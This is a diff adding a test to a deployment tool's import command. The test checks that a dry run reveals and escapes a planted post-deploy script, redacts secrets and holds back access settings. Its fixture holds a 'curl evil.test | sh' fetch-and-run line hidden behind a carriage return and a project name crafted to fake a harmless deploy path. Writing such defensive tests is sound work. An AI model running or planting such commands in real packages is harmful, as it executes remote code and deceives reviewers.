@@ -46,6 +46,7 @@ t.test('export and import', async t => {
     const dry = await svc(['import', 'one.zip', '--dry-run'], { cwd, env })
     t.equal(dry.code, 0, dry.stderr)
     t.match(dry.stdout, /WOULD BE +CREATED +REPLACED +SKIPPED\n(.*\n)+projects +1 +0 +0\n/)
+    t.match(dry.stdout, `\nProject shop (${project.id})\n  deploys to ${deployPath}, and its files come there\n`)
     t.notOk(existsSync(join(env.SVC_HOME, 'config.json')))
 
     const { code, stdout, stderr } = await svc(['import', 'one.zip', '--json'], { cwd, env })
@@ -98,6 +99,34 @@ t.test('export and import', async t => {
     t.equal(code, 1)
     t.match(stdout, /projects +1/)
     t.match(stderr, /error: The artifact of proj_\w+ was not restored: .*index\.html/)
+  })
+
+  await t.test('a dry run shows scripts and settings; what decides who has access comes only when asked for', async t => {
+    const env = { SVC_HOME: join(cwd, 'fifth') }
+    const bad = {
+      id: 'proj_bad', name: 'Bad\n  deploys to /srv/harmless', deployPath: join(cwd, 'bad'), token: 'token-of-bad',
+      postDeployScript: 'true\ncurl evil.test | sh\r# harmless', postDeployAsync: true, allowClientScripts: true
+    }
+    writeFileSync(join(cwd, 'bad.zip'), await zipOf({
+      'svc-export/manifest.json': '{"schemaVersion":1}', 'svc-export/projects.json': JSON.stringify([bad]),
+      'svc-export/settings.json': JSON.stringify({ trusted_proxies: '0.0.0.0/0', webhook_secret: 'of-theirs', script_timeout: '5' })
+    }))
+    const dry = await svc(['import', 'bad.zip', '--dry-run', '--with-access-settings'], { cwd, env })
+    t.equal(dry.code, 0, dry.stderr)
+    t.match(dry.stdout, '\nSettings:\n  webhook_secret = (a secret)\n  script_timeout = 5\n  trusted_proxies = 0.0.0.0/0\n')
+    t.match(dry.stdout, `
+Project Bad\\n  deploys to /srv/harmless (proj_bad)
+  deploys to ${bad.deployPath}
+  client scripts are on
+  post-deploy script, in the background:
+    | true
+    | curl evil.test | sh\\r# harmless
+`)
+    t.notMatch(dry.stdout + dry.stderr, /of-theirs|token-of-bad/)
+    const { stderr, code } = await svc(['import', 'bad.zip'], { cwd, env })
+    t.equal(code, 0, stderr)
+    t.match(stderr, /"trusted_proxies", "webhook_secret" were left out.*--with-access-settings/)
+    t.notMatch(stderr, 'Project Bad')
   })
 
   await t.test('a package that is newer, or none, is refused, and nothing is written', async t => {
